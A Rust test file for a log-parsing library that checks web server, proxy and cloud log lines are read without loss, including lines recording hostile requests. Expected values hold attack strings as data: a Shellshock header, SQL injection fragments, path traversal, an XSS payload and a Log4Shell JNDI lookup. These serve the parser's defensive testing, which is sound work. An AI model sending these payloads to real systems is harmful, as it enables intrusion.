//! What real servers wrote when they were sent hostile requests: no line is lost, and no client, time, target or status.
#![expect(clippy::disallowed_methods, reason = "reads the fixtures")]

use coldtrail_core::decode::{Block, Feed, Options, Step};
use coldtrail_core::parse::{Clf, Format, Parser, format_name, formats, lines};
use coldtrail_core::record::{Escape, NO_TIME, Outcome, Rec, Span, TextField, format_ts, printable};
use coldtrail_core::source::Located;
use proptest::prelude::*;
use std::path::Path;

fn fixture(name: &str) -> Vec<u8> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../testdata/hostile-lines").join(name);
    std::fs::read(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

fn read(bytes: &[u8]) -> (Block, Vec<Rec>) {
    let mut block = Block { bytes: bytes.to_vec(), ..Block::default() };
    let mut records = Vec::new();
    let parser = Parser::detect(&block.bytes);
    parser.open(&mut block.bytes);
    parser.parse_block(&block, &mut records);
    assert_eq!(records.len(), lines(bytes).count(), "one record a line");
    (block, records)
}

fn count(records: &[Rec], outcome: Outcome) -> usize {
    records.iter().filter(|r| r.outcome == outcome).count()
}

/// Every line of these files is a request whose client, time and status the server wrote.
#[test]
fn nothing_is_lost_that_the_server_wrote() {
    for (name, n) in [
        ("apache-2.4-combined.log", 36),
        ("apache-handmade-22.log", 22),
        ("nginx-1.22-combined.log", 70),
        ("squid-5.7-native.log", 13),
        ("squid-5.7-combined.log", 13),
    ] {
        let (block, records) = read(&fixture(name));
        assert_eq!(records.len(), n, "{name}");
        for (i, rec) in records.iter().enumerate() {
            let line = String::from_utf8_lossy(rec.line.bytes(&block.bytes)).into_owned();
            assert!(matches!(rec.outcome, Outcome::Ok | Outcome::Partial), "{name}:{}: {line}", i + 1);
            assert!(rec.client.is_some(), "client of {name}:{}: {line}", i + 1);
            assert_ne!(rec.ts_us, NO_TIME, "time of {name}:{}: {line}", i + 1);
            let has_status = !line.contains("/000 ") && !line.contains("\" 0 0 \"");
            assert_eq!(rec.status_code != 0, has_status, "status of {name}:{}: {line}", i + 1);
            let has_request = !line.contains("\"-\" 408");
            assert_eq!(rec.target.is_some(), has_request, "target of {name}:{}: {line}", i + 1);
        }
    }
}

/// Clients, targets and statuses as a person reads them off the lines.
#[test]
fn hostile_values_are_read_exactly() {
    let check = |name: &str, line: usize, want: [&str; 4], status: u16| {
        let (block, records) = read(&fixture(name));
        let rec = &records[line - 1];
        let show =
            |f| rec.text(f, &block.bytes).map_or("-".into(), |t| String::from_utf8_lossy(&t).into_owned());
        let got = [TextField::User, TextField::Method, TextField::Target, TextField::UserAgent].map(show);
        assert_eq!((got.each_ref().map(String::as_str), rec.status_code), (want, status), "{name}:{line}");
    };
    let apache = "apache-2.4-combined.log";
    check(apache, 2, ["-", "GET", "/", "() { :; }; echo \"p\\wn\""], 200);
    check(apache, 6, ["-", "GET", "/?id=1 UNION", "-"], 400);
    check(apache, 21, ["admin'-- x \"q\"", "GET", "/priv", "u"], 401);
    check(apache, 24, ["-", "GET", "/", ""], 200);
    let nginx = "nginx-1.22-combined.log";
    check(nginx, 20, ["a b \"c] [d", "GET", "/", "u"], 200);
    check(nginx, 8, ["-", "GET", "/..\\..\\win.ini", "u"], 404);
    let handmade = "apache-handmade-22.log";
    check(handmade, 4, ["-", "GET", "/i.php?id=1 UNION SELECT 1,2", "Mozilla/5.0 (X11) Firefox/1.0"], 200);
    check(handmade, 11, ["john doe", "GET", "/a", "Mozilla/5.0 (X11) Firefox/1.0"], 401);
    check(handmade, 9, ["-", "GET", "/?q=\"><svg/onload=alert(1)>", "Mozilla/5.0 (X11) Firefox/1.0"], 200);
    let squid = "squid-5.7-combined.log";
    check(squid, 4, ["-", "GET", "http://127.0.0.1:18082/a\"b", "u \"q\" x"], 404);
    let iis = "iis-fields-change.log";
    check(iis, 6, ["-", "GET", "-", "${jndi:ldap://x/a}"], 200);
    check(iis, 11, ["-", "POST", "-", "Mozilla/5.0"], 200);
}

/// The other files: every line is accounted for, and as much is read as they hold.
#[test]
fn the_rest_is_accounted_for() {
    let (_, json) = read(&fixture("nginx-1.22-escape-json.log"));
    assert_eq!(json.len(), 70);
    assert!(json.iter().all(|r| r.client.is_some() && r.status_code != 0 && r.target.is_some()));
    let (_, iis) = read(&fixture("iis-fields-change.log"));
    assert_eq!((count(&iis, Outcome::Ok), count(&iis, Outcome::Skipped)), (3, 8));
    // A newline in a user name splits one record of `escape=none` in two: both halves are kept.
    let (_, none) = read(&fixture("nginx-1.22-escape-none.log"));
    assert_eq!((none.len(), count(&none, Outcome::Raw)), (72, 2));
    for name in ["haproxy-2.6-httplog.log", "apache-2.4-error.log"] {
        let (_, records) = read(&fixture(name));
        assert!(!records.is_empty(), "{name}");
    }
}

/// One line of an expectation file: number, outcome, format, then the fields, `~` where there is none.
fn row(number: usize, rec: &Rec, block: &[u8]) -> String {
    let mut cells =
        vec![number.to_string(), format!("{:?}", rec.outcome).to_lowercase(), format_name(rec.format).into()];
    cells.push(if rec.ts_us == NO_TIME { "~".into() } else { format_ts(rec.ts_us, rec.ts_digits) });
    for field in [
        TextField::Client,
        TextField::User,
        TextField::Method,
        TextField::Host,
        TextField::Target,
        TextField::Path,
        TextField::Query,
        TextField::Referrer,
        TextField::UserAgent,
    ] {
        cells.push(rec.text(field, block).map_or("~".into(), |t| short(&printable(&t))));
    }
    cells.push(if rec.has_status { rec.status_code.to_string() } else { "~".into() });
    for size in [rec.response_bytes, rec.response_body_bytes, rec.request_bytes, rec.duration_us] {
        cells.push(size.get().map_or("~".into(), |n| n.to_string()));
    }
    cells.push(rec.reason.words().into());
    cells.join("\t").trim_end().to_string()
}

/// A long value by its beginning and its length.
fn short(text: &str) -> String {
    if text.len() <= 80 {
        text.into()
    } else {
        format!("{}...({})", text.get(..40).unwrap_or_default(), text.len())
    }
}

/// Each file against what a person read off its lines (`hostile-lines/expected`).
#[test]
fn every_line_is_read_as_expected() {
    const NAMES: [&str; 10] = [
        "apache-2.4-combined",
        "apache-2.4-error",
        "apache-handmade-22",
        "haproxy-2.6-httplog",
        "iis-fields-change",
        "nginx-1.22-combined",
        "nginx-1.22-escape-json",
        "nginx-1.22-escape-none",
        "squid-5.7-combined",
        "squid-5.7-native",
    ];
    for name in NAMES {
        let (block, records) = read(&fixture(&format!("{name}.log")));
        let want = String::from_utf8(fixture(&format!("expected/{name}.tsv"))).expect("text");
        assert_eq!(want.lines().count(), records.len(), "{name}");
        for ((i, rec), want) in records.iter().enumerate().zip(want.lines()) {
            assert_eq!(row(i + 1, rec, &block.bytes), want.trim_end(), "{name}");
        }
    }
}

/// Logs of proxies and firewalls, as their makers describe them, and a table that was exported.
const PROXIES: [&str; 18] = [
    "bluecoat.log",
    "cisco-wsa.log",
    "export.csv",
    "fortigate.log",
    "netskope.log",
    "palo-alto.log",
    "skyhigh-head.log",
    "skyhigh.log",
    "sophos-utm.log",
    "sophos-xg.log",
    "suricata-eve.json",
    "zeek-conn.json",
    "zeek-conn.log",
    "zeek-ssl.json",
    "zeek-ssl.log",
    "zscaler-leef.log",
    "zscaler-tab.log",
    "zscaler.csv",
];

/// Each file against what a person read off its lines (`proxies/expected`); also with other line ends.
#[test]
fn logs_of_proxies_are_read_as_expected() {
    for name in PROXIES {
        let bytes = fixture(&format!("../proxies/{name}"));
        let (stem, ending) = name.split_once('.').expect("a name with an ending");
        let expected = if name.starts_with("zeek") { format!("{stem}-{ending}") } else { stem.to_owned() };
        let want = String::from_utf8(fixture(&format!("../proxies/expected/{expected}.tsv"))).expect("text");
        for bytes in
            [bytes.clone(), String::from_utf8(bytes).expect("text").replace('\n', "\r\n").into_bytes()]
        {
            let (block, records) = read(&bytes);
            assert_eq!(want.lines().count(), records.len(), "{name}");
            for ((i, rec), want) in records.iter().enumerate().zip(want.lines()) {
                assert_eq!(row(i + 1, rec, &block.bytes), want.trim_end(), "{name}");
            }
        }
    }
}

/// What collectors make of a server's lines are the same records, in the same places.
#[test]
fn what_is_wrapped_is_read_as_if_it_were_not() {
    let plain = fixture("nginx-1.22-combined.log");
    let json = |line: &str| serde_json::to_string(line).expect("a string");
    let cell = |line: &str| line.replace('"', "\"\"");
    let time = "2026-11-24T02:12:00.123456789Z";
    let wraps: [(&str, &str, &dyn Fn(&str) -> String); 9] = [
        ("docker", "", &|l| {
            format!(r#"{{"log":{},"stream":"stdout","time":"{time}"}}"#, json(&format!("{l}\n")))
        }),
        ("journal", "", &|l| {
            format!(r#"{{"__REALTIME_TIMESTAMP":"1795486320000000","MESSAGE":{}}}"#, json(l))
        }),
        ("filebeat", "", &|l| {
            format!(r#"{{"@timestamp":"{time}","log":{{"offset":7}},"message":{}}}"#, json(l))
        }),
        ("elasticsearch", "", &|l| format!(r#"{{"_index":"i","_source":{{"message":{}}}}}"#, json(l))),
        ("splunk", "\"_raw\",\"_time\",host\n", &|l| format!(r#""{}","{time}",h"#, cell(l))),
        ("kubernetes", "", &|l| format!("{time} stdout F {l}")),
        ("compose", "", &|l| format!("web-1  | {l}")),
        ("syslog", "", &|l| format!("Nov 24 02:12:00 web nginx: {l}")),
        ("syslog with ISO times", "", &|l| format!("2026-11-24T02:12:00+00:00 web nginx[8]: {l}")),
    ];
    let text = String::from_utf8(plain.clone()).expect("text");
    let rows = |bytes: &[u8], skip: usize| -> Vec<String> {
        let (block, records) = read(bytes);
        let rows = records.iter().skip(skip).enumerate();
        rows.map(|(i, rec)| row(i + 1, rec, &block.bytes)).collect()
    };
    let want = rows(&plain, 0);
    assert_eq!(want.len(), 70);
    for (name, head, wrap) in wraps {
        let wrapped: String = text.lines().map(|line| wrap(line) + "\n").collect();
        assert_eq!(rows(format!("{head}{wrapped}").as_bytes(), head.lines().count()), want, "{name}");
    }
}

/// A line that has no time of its own has that of its collector.
#[test]
fn the_time_of_the_collector_stands_in() {
    let line = r#"{"log":"INFO:     203.0.113.9:52510 - \"GET /a HTTP/1.1\" 404 Not Found\n","stream":"stdout","time":"2026-11-24T02:12:00.5Z"}"#;
    let (_, records) = read(line.as_bytes());
    assert_eq!(format_ts(records[0].ts_us, 3), "2026-11-24T02:12:00.500Z");
    assert_eq!((records[0].outcome, records[0].status_code), (Outcome::Ok, 404));
}

/// Lines of clouds and of what stands before applications.
#[test]
fn lines_of_clouds() {
    let check = |line: &str, target: &str| {
        let (block, records) = read(line.as_bytes());
        let rec = &records[0];
        assert_eq!((rec.outcome, rec.reason.words()), (Outcome::Ok, ""), "{line}");
        let text = |f| rec.text(f, &block.bytes).map(|t| printable(&t));
        assert_eq!(text(TextField::Client).as_deref(), Some("203.0.113.9"), "{line}");
        assert_eq!(text(TextField::Method).as_deref(), Some("GET"), "{line}");
        let path = text(TextField::Path).unwrap_or_default();
        let query = text(TextField::Query).map_or(String::new(), |q| format!("?{q}"));
        assert_eq!(path + &query, target, "{line}");
        assert_eq!(format_ts(rec.ts_us, 0), "2026-11-24T02:12:00Z", "{line}");
        assert_eq!(rec.status_code, 404, "{line}");
    };
    for line in [
        r#"{"time":"2026-11-24T02:12:00Z","Properties":"{\"CsMethod\":\"GET\",\"CsUriStem\":\"/a\",\"CIp\":\"203.0.113.9\",\"CsUriQuery\":\"b=c\",\"ScStatus\":\"404\"}","category":"AppServiceHTTPLogs"}"#,
        r#"{"reqTimeSec":"1795486320","cliIP":"203.0.113.9","statusCode":"404","reqHost":"h.example","reqMethod":"GET","reqPath":"/a","queryStr":"b=c","bytes":"6","UA":"u"}"#,
        r#"{"transaction":{"client_ip":"203.0.113.9","time_stamp":"Tue Nov 24 02:12:00 2026","request":{"method":"GET","uri":"/a?b=c","headers":{"User-Agent":"u"}},"response":{"http_code":404}}}"#,
        r#"{"request":{"uri":"/a?b=c","method":"GET","size":1},"client_ip":"203.0.113.9","response":{"status":404,"size":"6"},"started_at":1795486320000}"#,
        r#"{"host":"h.example","path":"/a","timestamp":1795486320000,"proxy":{"method":"GET","path":"/a?b=c","statusCode":404,"clientIp":"203.0.113.9"}}"#,
        r#"{"version":"1.1","host":"web1","short_message":"GET /a?b=c","timestamp":1795486320,"_remote_addr":"203.0.113.9","_request_method":"GET","_request_uri":"/a?b=c","_status":404}"#,
        r#"2026-11-24T02:12:00.000000+00:00 heroku[router]: at=info method=GET path="/a?b=c" host=h.example request_id=8601 fwd="203.0.113.9" dyno=web.1 connect=1ms service=18ms status=404 bytes=12 protocol=https"#,
        r#"{"ip":"203.0.113.9","requestTime":"24/Nov/2026:02:12:00 +0000","httpMethod":"GET","path":"/a?b=c","status":"404","responseLength":"6"}"#,
    ] {
        check(line, "/a?b=c");
    }
}

/// A HAR through the decoder that makes lines of its entries: offsets are those of the file.
#[test]
fn a_har_is_read_by_entries() {
    let bytes = fixture("../proxies/browser.har");
    let located = Located::stream("in", Box::new(std::io::Cursor::new(bytes.clone())));
    let mut feed = Feed::open(&located, Options::default()).expect("opens");
    let mut block = Block::default();
    assert_eq!(feed.next(&mut block), Step::Block);
    let (_, records) = read(&block.bytes);
    let want = String::from_utf8(fixture("../proxies/expected/browser.tsv")).expect("text");
    assert_eq!(want.lines().count(), records.len());
    for ((i, rec), want) in records.iter().enumerate().zip(want.lines()) {
        assert_eq!(row(i + 1, rec, &block.bytes), want.trim_end());
        let (start, end) = (rec.line.start(), rec.line.end());
        let blank = |b: &[u8]| b.iter().map(|c| if *c == b'\n' { b' ' } else { *c }).collect::<Vec<u8>>();
        let inner = start + 1..end;
        assert_eq!(block.bytes[inner.clone()], blank(&bytes[inner]), "line {}", i + 1);
    }
    let Step::Member(member) = feed.next(&mut block) else { panic!("one block") };
    assert_eq!((member.lines, member.bytes), (4, bytes.len() as u64));
}

/// The same 70 requests, written by one server in three escapings, are the same records.
#[test]
fn the_escaping_does_not_show_in_the_records() {
    let requests = |name: &str| -> Vec<Vec<String>> {
        let (block, records) = read(&fixture(name));
        let text = |rec: &Rec, field| {
            // `escape=json` and `escape=none` leave a missing value empty, `escape=default` writes `-`.
            rec.text(field, &block.bytes).map_or(String::new(), |t| printable(&t))
        };
        let fields = [
            TextField::User,
            TextField::Method,
            TextField::Target,
            TextField::Referrer,
            TextField::UserAgent,
        ];
        records
            .iter()
            .map(|rec| {
                let numbers = [rec.status_code.to_string(), rec.response_body_bytes.or_zero().to_string()];
                fields.into_iter().map(|f| text(rec, f)).chain(numbers).collect()
            })
            .collect()
    };
    let default = requests("nginx-1.22-combined.log");
    assert_eq!(default.len(), 70);
    assert_eq!(requests("nginx-1.22-escape-json.log"), default);
    // A newline in a user name splits two of its records: their first halves hold only the client.
    let mut none = requests("nginx-1.22-escape-none.log");
    none.retain(|r| !r[1].is_empty() || !r[2].is_empty());
    assert_eq!(none.len(), 70);
    for (i, (none, default)) in none.iter().zip(&default).enumerate() {
        let is_split = default[0].contains("\\x0A");
        assert_eq!(none[usize::from(is_split)..], default[usize::from(is_split)..], "line {}", i + 1);
    }
}

/// One record of each of these lines, by hand: facts about servers that readers trip over.
#[test]
fn facts_about_servers() {
    let check = |line: &str, outcome: Outcome, want: &[(&str, &str)]| {
        let (block, records) = read(line.as_bytes());
        assert_eq!(records[0].outcome, outcome, "{line}: {}", records[0].reason.words());
        for (name, value) in want {
            let field = TextField::ALL.into_iter().find(|f| f.name() == *name).expect("a field's name");
            let got = records[0].text(field, &block.bytes).map(|t| printable(&t));
            assert_eq!(got.as_deref(), Some(*value), "{name} of {line}");
        }
    };
    use Outcome::{Ok, Partial, Raw};
    let t = "[24/Nov/2026:02:11:59 +0000]";
    // An escaped quote and an escaped backslash before a quote are different things.
    check(&format!(r#"1.2.3.4 - - {t} "GET / HTTP/1.1" 200 6 "-" "x\\""#), Ok, &[("user_agent", r"x\\")]);
    check(&format!(r#"1.2.3.4 - - {t} "GET / HTTP/1.1" 200 6 "-" "x\"""#), Ok, &[("user_agent", "x\"")]);
    // The user may hold what looks like the time.
    check(
        &format!("1.2.3.4 - [01/Jan/2020:00:00:00 +0000] x {t} \"GET /a HTTP/1.1\" 200 6"),
        Ok,
        &[("user", "[01/Jan/2020:00:00:00 +0000] x"), ("target", "/a")],
    );
    // Lists of proxies, hosts, and both.
    check(
        &format!("1.2.3.4, 10.0.0.9 - - {t} \"GET /a HTTP/1.1\" 200 6"),
        Ok,
        &[("client_ip", "1.2.3.4"), ("peer_ip", "10.0.0.9")],
    );
    check(
        &format!("www.x.org:443 1.2.3.4 - - {t} \"GET /a HTTP/1.1\" 200 6"),
        Ok,
        &[("host", "www.x.org:443"), ("client_ip", "1.2.3.4")],
    );
    check(
        &format!("h.example \"6.6.6.6, 1.2.3.4\" 10.0.0.9 - - {t} \"GET /a HTTP/1.1\" 200 6"),
        Ok,
        &[("client_ip", "1.2.3.4"), ("peer_ip", "10.0.0.9"), ("host", "h.example")],
    );
    check(
        &format!(r#"10.0.0.9 - - {t} "GET /a HTTP/1.1" 200 6 "-" "u" "1.2.3.4, 10.0.0.2""#),
        Ok,
        &[("client_ip", "10.0.0.9"), ("forwarded_for", "1.2.3.4, 10.0.0.2")],
    );
    // Absent, empty and dash.
    check(&format!(r#"1.2.3.4 - - {t} "-" 408 - "-" "-""#), Ok, &[("client_ip", "1.2.3.4")]);
    check(&format!(r#"1.2.3.4 - - {t} "" 400 0 "-" "-""#), Partial, &[("target", "")]);
    // Where nothing is escaped, a client can write a whole answer into its request.
    check(
        &format!(r#"1.2.3.4 -  {t} "GET /a HTTP/1.1" 200 5 "x" "y HTTP/1.1" 400 157 "" """#),
        Partial,
        &[("client_ip", "1.2.3.4")],
    );
    // Cut lines keep what they have.
    check(&format!("1.2.3.4 - - {t} \"GET /a"), Partial, &[("client_ip", "1.2.3.4"), ("target", "/a")]);
    check(
        &format!("1.2.3.4 - - {t} \"GET /a HTTP/1.1\" 200 6 \"-\" \"Moz"),
        Partial,
        &[("user_agent", "Moz"), ("target", "/a")],
    );
    check("1.2.3.4 - - [24/Nov/20", Raw, &[]);
    // NULs that a truncated file begins with, and a byte order mark.
    check(&format!("\0\0\0\u{0}1.2.3.4 - - {t} \"GET /a HTTP/1.1\" 200 6"), Ok, &[("client_ip", "1.2.3.4")]);
    check(&format!("\u{feff}1.2.3.4 - - {t} \"GET /a HTTP/1.1\" 200 6"), Ok, &[("client_ip", "1.2.3.4")]);
    // Behind a syslog head.
    check(
        &format!("<134>Nov 24 02:12:46 web1 nginx[7]: 1.2.3.4 - - {t} \"GET /a HTTP/1.1\" 200 6"),
        Ok,
        &[("client_ip", "1.2.3.4"), ("target", "/a")],
    );
}

/// A file that is one format after another: every line is read by its own.
#[test]
fn a_format_may_change_anywhere() {
    let text = "203.0.113.9 - - [10/Oct/2025:13:55:36 +0000] \"GET /a HTTP/1.1\" 200 512 \"-\" \"x\"\n\
        {\"time\":\"2025-10-10T13:55:36Z\",\"ip\":\"203.0.113.9\",\"req\":\"GET /a HTTP/1.1\",\"st\":\"200\"}\n\
        #Fields: date time c-ip cs-method cs-uri-stem sc-status\n\
        2025-10-10 13:55:36 203.0.113.9 GET /a 200\n\
        203.0.113.9 - - [10/Oct/2025:13:55:36 +0000] \"GET /a HTTP/1.1\" 200 512\n\
        #fields\tts\tid.orig_h\tmethod\turi\tstatus_code\n\
        1760104536.000000\t203.0.113.9\tGET\t/a\t200\n\
        1760104536.000    120 203.0.113.9 TCP_MISS/200 512 GET http://h.example/a - HIER_DIRECT/192.0.2.1 text/html\n\
        2025-10-10 13:55:36 10.0.0.5 GET /a - 443 - 203.0.113.9 u - 200 0 0 15\n";
    let (block, records) = read(text.as_bytes());
    let names: Vec<_> = records.iter().map(|r| format_name(r.format)).collect();
    assert_eq!(names, ["combined", "json", "unknown", "w3c", "common", "unknown", "zeek", "squid", "iis"]);
    for rec in records.iter().filter(|r| r.outcome != Outcome::Skipped) {
        let line = String::from_utf8_lossy(rec.line.bytes(&block.bytes));
        assert_eq!((rec.outcome, rec.status_code), (Outcome::Ok, 200), "{line}");
        assert_eq!(format_ts(rec.ts_us, 0), "2025-10-10T13:55:36Z", "{line}");
        assert_eq!(rec.client.bytes(&block.bytes), b"203.0.113.9", "{line}");
    }
}

/// Columns hold from one block to the next, whatever else a block has.
#[test]
fn columns_hold_across_blocks() {
    let block = |text: &str| Block { bytes: text.as_bytes().to_vec(), ..Block::default() };
    let head = block(
        "#Software: Microsoft Internet Information Services 10.0\n#Fields: date time c-ip cs-method cs-uri-stem sc-status\n",
    );
    let parser = Parser::detect(&head.bytes);
    let parser = parser.after(&head).unwrap_or(parser);
    let mut records = Vec::new();
    let rows = block("2025-10-10 13:55:37 203.0.113.9 GET /b 404\r\nwhat is this\r\n\r\n");
    assert!(parser.after(&rows).is_none());
    parser.parse_block(&rows, &mut records);
    let outcomes: Vec<_> = records.iter().map(|r| (r.outcome, r.status_code)).collect();
    assert_eq!(outcomes, [(Outcome::Ok, 404), (Outcome::Raw, 0), (Outcome::Skipped, 0)]);
}

#[test]
fn every_name_and_string_makes_a_parser() {
    for name in formats().iter().map(|f| f.name).filter(|n| !matches!(*n, "unknown" | "custom" | "inferred"))
    {
        assert!(Parser::named(name).is_ok(), "{name}");
    }
    let error = Parser::named("combinde").map(|_| ()).expect_err("no such format").to_string();
    assert!(error.contains("combinedio"), "{error}");
    // The combined format in its own words gets the reader of the combined format.
    let written = r#"log_format main '$remote_addr - $remote_user [$time_local] "$request" '
                     '$status $body_bytes_sent "$http_referer" "$http_user_agent"';"#;
    assert_eq!(Parser::named(written).expect("a format").format_name(), "combined");
    assert_eq!(Parser::named("%h %t \"%r\" %D").expect("a format").format_name(), "custom");
}

#[test]
fn crlf_reads_like_lf() {
    for name in ["apache-2.4-combined.log", "iis-fields-change.log", "squid-5.7-native.log"] {
        let lf = fixture(name);
        let crlf: Vec<u8> =
            lf.split_inclusive(|c| *c == b'\n').flat_map(|l| [&l[..l.len() - 1], b"\r\n"].concat()).collect();
        let outcomes = |bytes: &[u8]| {
            read(bytes).1.iter().map(|r| (r.outcome, r.status_code, r.ts_us)).collect::<Vec<_>>()
        };
        assert_eq!(outcomes(&crlf), outcomes(&lf), "{name}");
    }
}

/// The fast path and the reader of single lines agree on every line, also on bent ones.
fn same_both_ways(bytes: &[u8]) {
    let (block, records) = read(bytes);
    let parser = Parser::detect(&block.bytes);
    for rec in &records {
        let alone = parser.parse_line(&block.bytes, rec.line);
        let line = String::from_utf8_lossy(rec.line.bytes(&block.bytes));
        assert_eq!(format!("{rec:?}"), format!("{alone:?}"), "{line}");
    }
}

fn within(rec: &Rec) -> bool {
    let inside = |s: Span| s.is_none() || (s.start() >= rec.line.start() && s.end() <= rec.line.end());
    TextField::ALL.into_iter().all(|f| inside(rec.span_of(f)))
}

#[test]
fn fast_and_tolerant_paths_agree_on_real_lines() {
    for name in [
        "apache-2.4-combined.log",
        "nginx-1.22-combined.log",
        "nginx-1.22-escape-none.log",
        "apache-handmade-22.log",
    ] {
        same_both_ways(&fixture(name));
    }
}

proptest! {
    #[test]
    fn bent_lines_are_read_alike_and_within_themselves(
        cuts in proptest::collection::vec((0usize..11_000, prop_oneof![
            Just(b'"'), Just(b' '), Just(b'\\'), Just(b'['), Just(b']'), Just(b'\n'), Just(b'-'), any::<u8>()
        ]), 0..40),
    ) {
        let mut bytes = fixture("apache-handmade-22.log");
        for (at, byte) in cuts {
            let n = bytes.len();
            bytes[at % n] = byte;
        }
        // A `#` that begins a line may make it a header, which only a block can follow.
        bytes.iter_mut().filter(|c| **c == b'#').for_each(|c| *c = b'.');
        same_both_ways(&bytes);
        prop_assert!(read(&bytes).1.iter().all(within));
    }

    /// The combined reader alone, so that no other reader hides a difference.
    #[test]
    fn the_fast_path_reads_what_the_tolerant_reader_reads(
        which in 0usize..3,
        bends in proptest::collection::vec((0usize..25_000, prop_oneof![
            Just(b'"'), Just(b' '), Just(b'\\'), Just(b'['), Just(b']'), Just(b'-'), Just(b','), Just(b'#'), any::<u8>()
        ]), 0..60),
        raw in any::<bool>(),
    ) {
        let names = ["apache-2.4-combined.log", "nginx-1.22-combined.log", "nginx-1.22-escape-none.log"];
        let mut bytes = fixture(names[which]);
        for (at, byte) in bends {
            let n = bytes.len();
            bytes[at % n] = byte;
        }
        let clf = Clf::new(if raw { Escape::None } else { Escape::Backslash });
        let mut records = Vec::new();
        clf.parse_block(&bytes, &mut records);
        prop_assert_eq!(records.len(), lines(&bytes).count());
        for (rec, line) in records.iter().zip(lines(&bytes)) {
            let slow = clf.parse_line(&bytes, line);
            prop_assert_eq!(format!("{rec:?}"), format!("{slow:?}"), "{}", String::from_utf8_lossy(line.bytes(&bytes)));
        }
    }

    #[test]
    fn every_reader_survives_any_bytes(
        bytes in proptest::collection::vec(prop_oneof![
            Just(b'"'), Just(b' '), Just(b'\\'), Just(b'['), Just(b']'), Just(b'\n'), Just(b'{'), Just(b'}'), Just(b':'),
            Just(b','), Just(b'='), Just(b'\t'), Just(b'0'), Just(b'/'), any::<u8>()
        ], 0..300),
        which in 0usize..44,
    ) {
        let known: Vec<&str> = formats().iter().map(|f| f.name).filter(|n| !matches!(*n, "unknown" | "custom" | "inferred")).collect();
        let strings = [
            r#"%h %l %u %t "%r" %>s %b "%{Referer}i" "%{User-Agent}i" %D"#,
            r#"$http_x_forwarded_for [$time_local] "$request" $status "$request_body""#,
            r#"log_format j escape=none '{"ip":"$remote_addr","req":"$request","t":"$time_iso8601"}'"#,
        ];
        let text = known.get(which).copied().unwrap_or(strings[which % strings.len()]);
        let parser = Parser::named(text).expect("a format");
        let block = Block { bytes, ..Block::default() };
        let mut records = Vec::new();
        parser.parse_block(&block, &mut records);
        prop_assert_eq!(records.len(), lines(&block.bytes).count());
        prop_assert!(records.iter().all(within));
    }

    #[test]
    fn lines_of_any_known_format_survive_bending(
        which in 0usize..6,
        bends in proptest::collection::vec((0usize..400, any::<u8>()), 0..12),
        cut in 0usize..500,
    ) {
        const LINES: [&str; 6] = [
            r#"https 2026-01-01T00:55:04.127531Z app/lb/1 203.0.113.9:2817 10.0.0.1:80 0.001 0.102 0.000 200 200 225 24950 "GET https://h.example:443/a?b HTTP/1.1" "u" ECDHE TLSv1.2 arn"#,
            r#"time=15:01:22 devname="unit" eventtime=1631192482 user="u@h" srcip=192.168.1.2 action="pass" hostname="h.example" url="/a?b=c" statuscode=200"#,
            r#""2020-07-23 23:48:56","u1, u2","192.168.1.1","203.0.113.1","203.0.113.2","","ALLOWED","https://h.example/a","https://r/","u, v","200","562","1489","""#,
            r#"{"ts":1716723772.6,"request":{"remote_ip":"10.5.1.1","method":"GET","uri":"/a?b","headers":{"User-Agent":["u"]}},"status":206}"#,
            "2025-10-10 13:55:36 10.0.0.5 GET /a a=1 &b=2 443 - 203.0.113.9 Mozilla/5.0+(X) - 200 0 0 15",
            "1541170714.797   3400 172.25.1.42 TCP_MISS/200 1054 POST http://h.example/a?b u1 HIER_DIRECT/13.33.80.118 text/html \"r\" \"u\"",
        ];
        let mut bytes = LINES[which].as_bytes().to_vec();
        for (at, byte) in bends {
            let n = bytes.len();
            bytes[at % n] = byte;
        }
        bytes.truncate(cut);
        prop_assert!(read(&bytes).1.iter().all(within));
    }

    #[test]
    fn logs_of_proxies_survive_bending(
        which in 0usize..PROXIES.len(),
        bends in proptest::collection::vec((0usize..4000, any::<u8>()), 0..12),
        cut in 0usize..4000,
    ) {
        let mut bytes = fixture(&format!("../proxies/{}", PROXIES[which]));
        for (at, byte) in bends {
            let n = bytes.len();
            bytes[at % n] = byte;
        }
        bytes.truncate(cut);
        let (block, records) = read(&bytes);
        prop_assert_eq!(records.len(), lines(&block.bytes).count());
        prop_assert!(records.iter().all(within));
    }

    /// Also what is bent stays a line and keeps its length.
    #[test]
    fn wrapped_lines_survive_bending(
        bends in proptest::collection::vec((0usize..4000, any::<u8>()), 0..12),
        cut in 0usize..4000,
        is_table in any::<bool>(),
    ) {
        let plain = String::from_utf8(fixture("nginx-1.22-combined.log")).expect("text");
        let wrap = |line: &str| match is_table {
            true => format!("\"{}\",2026-11-24T02:12:00Z\n", line.replace('"', "\"\"")),
            false => serde_json::json!({"log": line, "time": "2026-11-24T02:12:00Z"}).to_string() + "\n",
        };
        let head = if is_table { "_raw,_time\n" } else { "" };
        let mut bytes = (head.to_owned() + &plain.lines().take(20).map(wrap).collect::<String>()).into_bytes();
        for (at, byte) in bends {
            let n = bytes.len();
            bytes[at % n] = byte;
        }
        bytes.truncate(cut);
        let mut opened = bytes.clone();
        Parser::detect(&bytes).open(&mut opened);
        let ends = |bytes: &[u8]| memchr::memchr_iter(b'\n', bytes).collect::<Vec<_>>();
        prop_assert_eq!(ends(&bytes), ends(&opened));
        prop_assert_eq!(bytes.len(), opened.len());
        prop_assert!(read(&bytes).1.iter().all(within));
    }

    #[test]
    fn any_bytes_are_survived(bytes in proptest::collection::vec(any::<u8>(), 0..600)) {
        prop_assert!(read(&bytes).1.iter().all(within));
    }

    #[test]
    fn any_prefix_of_any_file_is_survived(which in 0usize..5, cut in 0usize..25_000) {
        let names = ["nginx-1.22-escape-json.log", "squid-5.7-native.log", "iis-fields-change.log",
                     "squid-5.7-combined.log", "haproxy-2.6-httplog.log"];
        let bytes = fixture(names[which]);
        prop_assert!(read(&bytes[..cut.min(bytes.len())]).1.iter().all(within));
    }
}
